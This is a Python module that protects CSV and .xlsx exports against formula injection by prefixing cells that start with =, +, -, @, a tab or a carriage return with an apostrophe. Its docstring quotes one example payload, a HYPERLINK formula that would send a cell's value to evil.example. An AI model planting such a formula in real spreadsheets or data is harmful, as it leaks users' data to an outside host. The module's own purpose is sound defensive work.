"""Tables leaving circle as CSV or ``.xlsx`` carry data, never code (CSV/formula injection).

A spreadsheet reads a text cell starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return as a formula: an admin area named
``=HYPERLINK("http://evil.example/?x="&B2,"…")`` in OpenStreetMap, a
facility list or a file name would become a live link that sends another cell
away. Every export (the indicator sheet, the app's downloads) goes through
:func:`neutralised`, which prefixes such text with an apostrophe as OWASP
advises; numbers stay numbers (a negative number is data, not a formula).
Only what is written out is changed: a study's own tables keep their names
as the data gave them.
"""

from __future__ import annotations

import io
from typing import Any

import pandas as pd

#: The first characters that make a spreadsheet read text as a formula (OWASP's CSV-injection rule).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """Return ``value`` with an apostrophe before it when it is text a spreadsheet would run; else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells and column names cannot be read as formulas.

    Columns of numbers, booleans and dates are left as they are; in text
    (object, string or categorical) columns every string starting with one of
    :data:`FORMULA_STARTS` gets a leading ``'``. Column names are treated the
    same way (they are the sheet's first row).
    """
    safe = frame.copy()
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        text = column.dtype == object or pd.api.types.is_string_dtype(column.dtype)
        if text or isinstance(column.dtype, pd.CategoricalDtype):
            safe.isetitem(position, column.map(neutral).astype(object))
    safe.columns = [neutral(name) for name in safe.columns]
    return safe


def csv_bytes(frame: pd.DataFrame) -> bytes:
    r"""Return a table as UTF-8 CSV with a BOM (so Excel reads Chinese), its formula-like text neutralised.

    Lines end in CR LF (RFC 4180), so a field holding a carriage return is
    quoted: unquoted, a spreadsheet starts a new row at the CR, and what
    follows it (``"x\r=1+1"``) would be a cell of its own, and a formula.
    """
    return neutralised(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def xlsx_bytes(sheets: dict[str, pd.DataFrame], widths: bool = True) -> bytes:
    """Return ``.xlsx`` bytes holding one sheet per table, text neutralised and stored as text, never formulas.

    Parameters
    ----------
    sheets : dict
        Sheet name to table, in the order the sheets are wanted.
    widths : bool
        Freeze the heading row and fit column widths to the first 60 rows.

    Notes
    -----
    After :func:`neutralised` no text starts with ``=``; every cell openpyxl
    still typed as a formula (``data_type == "f"``) is set back to a string
    all the same, so no writer's guess can put code in the file.
    """
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            neutralised(frame).to_excel(writer, sheet_name=name, index=False)
        for sheet in writer.sheets.values():
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        cell.data_type = "s"
            if widths:
                sheet.freeze_panes = "A2"
                for column in sheet.columns:
                    width = max(len(str(c.value or "")) for c in column[:60])
                    sheet.column_dimensions[column[0].column_letter].width = min(60, max(10, width + 2))
    return buffer.getvalue()
